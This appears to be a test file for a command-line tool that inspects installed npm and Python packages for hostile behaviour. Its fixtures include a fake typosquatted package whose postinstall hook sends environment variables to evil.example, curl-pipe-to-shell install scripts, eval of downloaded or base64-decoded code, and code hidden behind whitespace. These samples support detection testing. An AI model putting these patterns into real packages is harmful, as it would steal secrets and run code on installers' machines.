// `skeptic deps --inspect`, with the built program on installed packages as package managers lay them out.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, test } from "node:test";
import { repository, room, write } from "../harness/repository.ts";

const PROGRAM = process.env.SKEPTIC_TEST_CLI ?? join(process.cwd(), "dist", "cli.js");

function skeptic(folder: string, ...argv: string[]) {
  const { status, stdout, stderr } = spawnSync(process.execPath, [PROGRAM, "deps", ...argv], {
    cwd: folder,
    encoding: "utf8",
    env: { PATH: process.env.PATH },
  });
  return { code: status, out: stdout, err: stderr };
}

interface Told {
  readonly warnings: number;
  readonly missing: readonly string[];
  readonly packages: readonly {
    readonly name: string;
    readonly version: string;
    readonly ecosystem: string;
    readonly folder: string;
    readonly found: readonly {
      readonly level: string;
      readonly kind: string;
      readonly file: string;
      readonly line: number;
      readonly text: string;
    }[];
    readonly notFollowed: readonly { readonly why: string; readonly files: readonly string[] }[];
  }[];
}

function told(folder: string, ...argv: string[]): Told {
  const { out, err } = skeptic(folder, "--format", "json", ...argv);
  assert.equal(err, "");
  return JSON.parse(out) as Told;
}

/** "warning decoded-code setup.js:3" of each. */
function lines(folder: string, ...argv: string[]): string[] {
  return told(folder, ...argv).packages.flatMap(({ found }) =>
    found.map(({ level, kind, file, line }) => `${level} ${kind} ${file}:${line}`),
  );
}

function npm(folder: string, at: string, name: string, files: Record<string, string>, more = {}) {
  write(folder, { [`${at}/package.json`]: JSON.stringify({ name, version: "1.0.0", ...more }) });
  for (const [file, text] of Object.entries(files)) write(folder, { [`${at}/${file}`]: text });
}

function python(site: string, name: string, files: Record<string, string>): void {
  const info = `${name}-2.0.dist-info`;
  const all: Record<string, string> = { ...files, [`${info}/METADATA`]: `Name: ${name}\n` };
  all[`${info}/RECORD`] = Object.keys(all)
    .map((file) => `${file},,\n`)
    .join("");
  for (const [file, text] of Object.entries(all)) {
    mkdirSync(dirname(join(site, file)), { recursive: true });
    writeFileSync(join(site, file), text);
  }
}

describe("what an installed package does", () => {
  test("the environment that a hook sends, through a file that it imports", () => {
    const folder = room();
    npm(
      folder,
      "node_modules/left-padd",
      "left-padd",
      {
        "install.js": 'const { collect } = require("./lib/data");\ncollect();\n',
        "lib/data.js":
          'const https = require("https");\nexports.collect = () => {\n  const r = https.request("https://evil.example");\n  r.end(JSON.stringify(process.env));\n};\n',
        "index.js": "module.exports = (text) => text;\n",
      },
      { scripts: { postinstall: "node install", test: "curl x | sh" } },
    );
    const [one] = told(folder, "--inspect", "left-padd").packages;
    const warnings = one?.found.filter(({ level }) => level === "warning") ?? [];
    assert.deepEqual(
      warnings.map(({ kind, file, line }) => [kind, file, line]),
      [["exfiltration-pattern", "lib/data.js", 4]],
    );
    assert.match(warnings[0]?.text ?? "", /when the package is installed/);
    assert.ok(
      one?.found.some(({ text }) => text.includes("postinstall") && text.includes("node install")),
    );
    assert.equal(skeptic(folder, "--inspect", "left-padd").code, 1);
    assert.equal(skeptic(folder, "--inspect", "left-padd", "--fail-on", "never").code, 0);
  });

  test("decoded and downloaded text that is run; harmless uses of both are not told", () => {
    const folder = room();
    npm(folder, "node_modules/a", "a", {
      "one.js": 'const text = Buffer.from("MQ==", "base64").toString();\nnew Function(text)();\n',
      "two.js":
        'async function load() {\n  const answer = await fetch("https://x.example/a");\n  eval(await answer.text());\n}\nload();\n',
      "fine.js":
        'const map = JSON.parse(Buffer.from("e30=", "base64").toString());\nconst run = new Function("return 1");\nfetch("https://x.example").then((r) => r.json()).then(console.log);\nmodule.exports = { map, run };\n',
    });
    assert.deepEqual(lines(folder, "--inspect", "a"), [
      "warning decoded-code one.js:2",
      "warning downloaded-code two.js:3",
    ]);
  });

  test("scrambled names, and code out of sight", () => {
    const folder = room();
    const names = Array.from({ length: 20 }, (_, i) => `_0x${(0x3a41 + i).toString(16)}`);
    npm(folder, "node_modules/b", "b", {
      "dist.js": `${names.map((name) => `var ${name} = 1;`).join("")}\n`,
      "index.js": `module.exports = 1;${" ".repeat(400)}require("./dist");\n`,
      "table.js": `module.exports = [\n  1,${" ".repeat(400)}// one\n];\n`,
    });
    assert.deepEqual(lines(folder, "--inspect", "b"), [
      "warning obfuscated dist.js:1",
      "warning obfuscated index.js:1",
    ]);
  });

  test("what cannot be followed is said, and looked through even so", () => {
    const folder = room();
    npm(
      folder,
      "node_modules/c",
      "c",
      {
        "big.js": `module.exports = "${"x".repeat(2_200_000)}";\neval(atob("MQ=="));\n`,
        "addon.node": "\u007fELF\0\0",
        run: "\u007fELF\0\0",
        "get.sh": "curl -sSf https://x.example/i.sh | sh\n",
      },
      { scripts: { install: "./run && sh get.sh" } },
    );
    const [one] = told(folder, "--inspect", "c").packages;
    assert.deepEqual(
      one?.found.filter(({ level }) => level === "warning").map(({ kind, file }) => [kind, file]),
      [
        ["decoded-code", "big.js"],
        ["install-script", "get.sh"],
        ["install-script", "run"],
      ],
    );
    assert.deepEqual(
      one?.notFollowed.map(({ files }) => files),
      [["addon.node", "run"], ["big.js"], ["get.sh"]],
    );
  });

  test("Python: what runs whenever it starts, and decoded text that is run", () => {
    const folder = room();
    const site = join(folder, ".venv/lib/python3.11/site-packages");
    mkdirSync(site, { recursive: true });
    write(folder, { ".venv/pyvenv.cfg": "home = /usr/bin\n" });
    python(site, "Evil_Pkg", {
      "evil_pkg/__init__.py": "import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
      "evil_pkg/fine.py": "import base64\n\nDATA = base64.b64decode('MQ==')\n",
      "evil.pth": "/some/folder\nimport base64; exec(base64.b64decode('MQ=='))\n",
    });
    python(site, "evil_pkg_more", { "more.py": "eval('1')\n" });
    assert.deepEqual(lines(folder, "--inspect", "evil.pkg"), [
      "warning decoded-code evil.pth:2",
      "warning decoded-code evil_pkg/__init__.py:3",
      "note install-script evil.pth:2",
    ]);
    const elsewhere = room();
    assert.equal(told(elsewhere, "--inspect", "evil-pkg", "--python", site).warnings, 2);
  });
});

describe("where packages are", () => {
  const evil = { "index.js": 'eval(atob("MQ=="));\n' };

  test("nested, scoped, in the store of pnpm, in a workspace, each copy once", () => {
    const folder = room();
    npm(folder, "node_modules/x/node_modules/deep", "deep", evil);
    npm(folder, "node_modules/@s/p", "@s/p", evil);
    npm(folder, "packages/app/node_modules/own", "own", evil);
    npm(folder, "node_modules/.pnpm/st@1.0.0/node_modules/st", "st", evil);
    symlinkSync(".pnpm/st@1.0.0/node_modules/st", join(folder, "node_modules/st"), "junction");
    const folders = told(folder, "--inspect", "deep", "@s/p", "own", "st").packages.map(
      ({ name, folder: at }) => [name, at],
    );
    assert.deepEqual(folders, [
      ["deep", "node_modules/x/node_modules/deep"],
      ["@s/p", "node_modules/@s/p"],
      ["own", "packages/app/node_modules/own"],
      ["st", "node_modules/.pnpm/st@1.0.0/node_modules/st"],
    ]);
  });

  test("a package inside another is not that one's code", () => {
    const folder = room();
    npm(folder, "node_modules/x", "x", { "index.js": "module.exports = 1;\n" });
    npm(folder, "node_modules/x/node_modules/deep", "deep", evil);
    assert.deepEqual(lines(folder, "--inspect", "x"), []);
  });

  test("a name that is not installed, or nothing installed at all, is said", () => {
    const folder = room();
    const none = skeptic(folder, "--inspect", "nope");
    assert.equal(none.code, 2);
    assert.match(none.err, /nothing is installed here/);
    npm(folder, "node_modules/x", "x", {});
    const missing = skeptic(folder, "--inspect", "nope");
    assert.equal(missing.code, 2);
    assert.match(missing.err, /not installed: nope \(looked in node_modules\)/);
    const some = skeptic(folder, "--inspect", "nope", "x");
    assert.equal(some.code, 2);
    assert.match(some.out, /Not installed: nope/);
    assert.match(skeptic(folder, "--inspect", "../../etc").err, /not installed/);
  });

  test("with --diff, the packages that changed", () => {
    const folder = repository({
      ".gitignore": "node_modules\n",
      "package.json": JSON.stringify({ dependencies: { x: "1.0.0" } }),
    });
    const dependencies = { x: "1.0.0", y: "1.0.0", z: "1" };
    write(folder, { "package.json": JSON.stringify({ dependencies }) });
    npm(folder, "node_modules/x", "x", evil);
    npm(folder, "node_modules/y", "y", evil);
    const { packages, missing } = told(folder, "--diff", "HEAD", "--inspect");
    assert.deepEqual(
      packages.map(({ name }) => name),
      ["y"],
    );
    assert.deepEqual(missing, ["z"]);
    assert.match(skeptic(folder, "--inspect").err, /name packages to look into/);
  });
});
